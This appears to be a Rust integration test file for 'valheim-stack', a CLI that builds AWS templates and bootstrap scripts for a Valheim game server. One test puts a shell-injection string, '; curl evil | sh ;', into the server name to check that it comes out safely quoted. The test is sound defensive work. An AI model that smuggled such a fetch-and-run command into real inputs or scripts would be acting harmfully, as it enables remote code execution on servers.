#![allow(deprecated)]

mod common;

use assert_cmd::Command;
use common::TestProject;
use predicates::prelude::*;

const FRIENDS_DECLARATION: &str = r#"
stack "FriendsServerStack"
ports 2456 2458
instance {
    type "t3a.large"
}
server {
    name "friends"
    world "Midgard"
}
"#;

/// Help lists every command
#[test]
fn test_cli_help() {
    let mut cmd = Command::cargo_bin("valheim-stack").unwrap();
    cmd.arg("--help")
        .assert()
        .success()
        .stdout(predicate::str::contains("synth"))
        .stdout(predicate::str::contains("diff"))
        .stdout(predicate::str::contains("validate"))
        .stdout(predicate::str::contains("outputs"))
        .stdout(predicate::str::contains("bootstrap"))
        .stdout(predicate::str::contains("probe"));
}

#[test]
fn test_cli_version() {
    let mut cmd = Command::cargo_bin("valheim-stack").unwrap();
    cmd.arg("version")
        .assert()
        .success()
        .stdout(predicate::str::contains("valheim-stack"));
}

/// Without any declaration file the built-in defaults are synthesized
#[test]
fn test_synth_defaults() {
    let project = TestProject::new();
    let output = project.command().arg("synth").output().unwrap();
    assert!(output.status.success());

    let template: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(
        template["Resources"]["ValheimInstance"]["Type"],
        "AWS::EC2::Instance"
    );
    assert_eq!(
        template["Resources"]["ValheimInstance"]["Properties"]["InstanceType"],
        "t3a.medium"
    );
}

#[test]
fn test_synth_uses_discovered_declaration() {
    let project = TestProject::new();
    project.write_declaration(FRIENDS_DECLARATION);

    project
        .command()
        .arg("synth")
        .assert()
        .success()
        .stdout(predicate::str::contains("t3a.large"))
        .stdout(predicate::str::contains("Midgard"));
}

#[test]
fn test_synth_output_file() {
    let project = TestProject::new();
    let out = project.path().join("template.json");

    project
        .command()
        .args(["synth", "--output"])
        .arg(&out)
        .assert()
        .success()
        .stdout(predicate::str::is_empty());

    let content = std::fs::read_to_string(out).unwrap();
    assert!(content.contains("AWS::Backup::BackupVault"));
}

#[test]
fn test_synth_missing_explicit_file_fails() {
    let project = TestProject::new();
    project
        .command()
        .args(["synth", "--file", "nope.kdl"])
        .assert()
        .failure();
}

#[test]
fn test_diff_without_snapshot_creates_everything() {
    let project = TestProject::new();
    project
        .command()
        .arg("diff")
        .assert()
        .success()
        .stdout(predicate::str::contains("No previous template"))
        .stdout(predicate::str::contains("ValheimInstance"))
        .stdout(predicate::str::contains("0 to delete"));
}

#[test]
fn test_diff_after_write_has_no_changes() {
    let project = TestProject::new();
    project.command().args(["synth", "--write"]).assert().success();
    assert!(project.join(".valheim-stack/template.json").exists());

    project
        .command()
        .arg("diff")
        .assert()
        .success()
        .stdout(predicate::str::contains("No changes"));
}

#[test]
fn test_diff_instance_type_change_replaces() {
    let project = TestProject::new();
    project.command().args(["synth", "--write"]).assert().success();
    project.write_declaration(FRIENDS_DECLARATION);

    project
        .command()
        .arg("diff")
        .assert()
        .success()
        .stdout(predicate::str::contains("ValheimInstance"))
        .stdout(predicate::str::contains("InstanceType"))
        .stdout(predicate::str::contains("ValheimBackupSelection"))
        .stdout(predicate::str::contains("2 to replace"));
}

#[test]
fn test_diff_against_template_file() {
    let project = TestProject::new();
    let out = project.path().join("previous.json");
    project
        .command()
        .args(["synth", "--output"])
        .arg(&out)
        .assert()
        .success();

    project
        .command()
        .args(["diff", "--against"])
        .arg(&out)
        .assert()
        .success()
        .stdout(predicate::str::contains("No changes"));
}

#[test]
fn test_validate_defaults() {
    let project = TestProject::new();
    project
        .command()
        .arg("validate")
        .assert()
        .success()
        .stdout(predicate::str::contains("Declaration is valid"))
        .stdout(predicate::str::contains("server.data-dir"));
}

#[test]
fn test_validate_errors_exit_non_zero() {
    let project = TestProject::new();
    project.write_declaration(
        r#"
backup {
    schedule minute=0 hour=25
}
"#,
    );

    project
        .command()
        .arg("validate")
        .assert()
        .failure()
        .stderr(predicate::str::contains("backup.schedule"));
}

#[test]
fn test_validate_rejects_misaligned_cidr() {
    let project = TestProject::new();
    project.write_declaration(
        r#"
network {
    cidr "10.0.0.5/16"
}
"#,
    );

    project
        .command()
        .arg("validate")
        .assert()
        .failure()
        .stderr(predicate::str::contains("network.cidr"));
}

#[test]
fn test_validate_parse_error() {
    let project = TestProject::new();
    project.write_declaration("volume { size 8 }");

    project.command().arg("validate").assert().failure();
}

#[test]
fn test_outputs() {
    let project = TestProject::new();
    project
        .command()
        .arg("outputs")
        .assert()
        .success()
        .stdout(predicate::str::contains("InstanceId"))
        .stdout(predicate::str::contains("PublicIP"))
        .stdout(predicate::str::contains("ServerConnection"))
        .stdout(predicate::str::contains("BackupVaultName"));
}

#[test]
fn test_bootstrap_script() {
    let project = TestProject::new();
    project
        .command()
        .args(["bootstrap", "--region", "eu-central-1"])
        .assert()
        .success()
        .stdout(predicate::str::starts_with("#!/bin/bash"))
        .stdout(predicate::str::contains("--region eu-central-1)"))
        .stdout(predicate::str::contains("-p 2456-2458:2456-2458/udp"));
}

#[test]
fn test_bootstrap_quotes_server_settings() {
    let project = TestProject::new();
    project.write_declaration(
        r#"
server {
    name "x\" ; curl evil | sh ; echo \""
    config-dir "/srv/cfg"
    data-dir "/data/world"
}
"#,
    );

    project
        .command()
        .args(["bootstrap", "--region", "eu-central-1"])
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "-e SERVER_NAME='x\" ; curl evil | sh ; echo \"'",
        ))
        .stdout(predicate::str::contains(
            "chown -R ec2-user:ec2-user /srv/cfg /data/world\n",
        ));
}

#[test]
fn test_bootstrap_requires_region() {
    let project = TestProject::new();
    project
        .command()
        .env_remove("AWS_REGION")
        .arg("bootstrap")
        .assert()
        .failure();
}

#[test]
fn test_declaration_env_template() {
    let project = TestProject::new();
    project.write_file(".env", "VALHEIM_INSTANCE_TYPE=m6a.large\n");
    project.write_declaration(
        r#"
instance {
    type "{{ VALHEIM_INSTANCE_TYPE }}"
}
"#,
    );

    project
        .command()
        .arg("synth")
        .assert()
        .success()
        .stdout(predicate::str::contains("m6a.large"));
}

#[test]
fn test_probe_silent_port() {
    let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = socket.local_addr().unwrap().port();

    let project = TestProject::new();
    project
        .command()
        .args(["probe", "127.0.0.1", "--port", &port.to_string(), "--timeout-secs", "1"])
        .assert()
        .success()
        .stdout(predicate::str::contains("is not reachable"));
    drop(socket);
}
